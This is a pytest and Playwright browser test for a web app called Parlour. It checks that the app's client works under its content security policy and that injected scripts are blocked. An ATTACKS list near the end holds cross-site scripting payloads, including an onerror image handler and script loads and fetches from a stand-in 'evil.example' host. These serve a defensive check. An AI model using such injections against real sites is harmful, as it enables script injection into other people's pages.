"""The page in a real browser: it works under the content security policy, which blocks everything else."""

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, sync_playwright

from tests.server.browser import Json
from tests.server.served import QUICK, Served
from tests.web.conftest import chromium_path

pytestmark = pytest.mark.browser

INDEX = """<!doctype html><html><head><title>Parlour</title>
<link rel="icon" href="data:,"><link rel="stylesheet" href="/_app/immutable/look.abc.css">
<style>p { color: rgb(1, 2, 3) }</style></head>
<body><div style="display: contents"><p id="words">?</p>
<script>
  window.inline = true;
  import("/_app/immutable/start.abc.js").then((start) => start.begin());
</script></div></body></html>
"""
START = """
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const shown = (address) => new Promise((yes) => {
  const image = new Image();
  image.onload = () => yes(true);
  image.onerror = () => yes(false);
  image.src = address;
});
export async function begin() {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"/>';
  const worker = new Worker(blob('onmessage = (event) => postMessage(event.data + 1)', 'text/javascript'));
  const socket = new WebSocket(`ws://${location.host}/api/page`);
  const hello = new Promise((yes) => { socket.onmessage = (event) => yes(JSON.parse(event.data).type); });
  const found = {
    module: true,
    webgl: !!document.createElement('canvas').getContext('webgl2'),
    audio: !!new AudioContext().createOscillator(),
    data: await shown('data:image/svg+xml,' + encodeURIComponent(svg)),
    blob: await shown(blob(svg, 'image/svg+xml')),
    worker: await new Promise((yes) => { worker.onmessage = (event) => yes(event.data); worker.postMessage(1); }),
    socket: await hello,
    fetched: (await fetch('/api/games')).status,
    style: getComputedStyle(document.getElementById('words')).color,
    sheet: getComputedStyle(document.body).margin,
  };
  document.documentElement.dataset.found = JSON.stringify(found);
}
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """Return a server with a small client, built like the real one."""
    built = tmp_path_factory.mktemp("pages")
    (built / "_app" / "immutable").mkdir(parents=True)
    (built / "index.html").write_text(INDEX)
    (built / "_app" / "immutable" / "start.abc.js").write_text(START)
    (built / "_app" / "immutable" / "look.abc.css").write_text("body { margin: 7px }")
    with Served(tmp_path_factory.mktemp("served"), pages=built, **QUICK) as running:
        yield running


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=chromium_path(),
            args=["--no-sandbox", "--use-angle=swiftshader", "--enable-unsafe-swiftshader", "--disable-quic"],
        )
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def page(chromium: Browser) -> Page:
    """One page for all tests, which reload it: opening a page takes longer than a test."""
    return chromium.new_page()


def finished(page: Page) -> Json:
    """Return the client's results when it is done. Waiting for a function would violate the policy."""
    page.wait_for_selector("html[data-found]", state="attached")
    found: Json = json.loads(page.evaluate("document.documentElement.dataset.found"))
    return found


def test_scripts_pictures_workers_sound_and_sockets_of_the_client_work(server: Served, page: Page) -> None:
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    page.goto(f"{server.address}/match/anything")
    assert finished(page) == {
        "module": True,
        "webgl": True,
        "audio": True,
        "data": True,
        "blob": True,
        "worker": 2,
        "socket": "hello",
        "fetched": 200,
        "style": "rgb(1, 2, 3)",
        "sheet": "7px",
    }
    assert complaints == []


ATTACKS = (
    "document.body.append(Object.assign(document.createElement('script'), { text: 'window.hacked = true' }))",
    'document.body.innerHTML = \'<img src="/x.png" onerror="window.hacked = true">\'',
    "document.body.append(Object.assign(document.createElement('script'), { src: 'http://evil.example/x.js' }))",
    "fetch('http://evil.example/').then(() => { window.hacked = true })",
    "document.body.innerHTML = '<iframe src=\"http://evil.example/\"></iframe>'",
)


# One test for all attacks: with several workers, each would start a browser for its share of them.
def test_injected_scripts_are_blocked(server: Served, page: Page) -> None:
    for attack in ATTACKS:
        page.goto(server.address)
        finished(page)
        page.evaluate("document.onsecuritypolicyviolation = () => { document.documentElement.dataset.stopped = 'yes' }")
        page.evaluate(f"() => {{ {attack} }}")
        page.wait_for_selector("html[data-stopped]", state="attached")
        assert page.evaluate("window.hacked") is None, attack
    # The page cannot be framed by another.
    answer = page.request.get(server.address)
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    assert answer.headers["x-frame-options"] == "DENY"
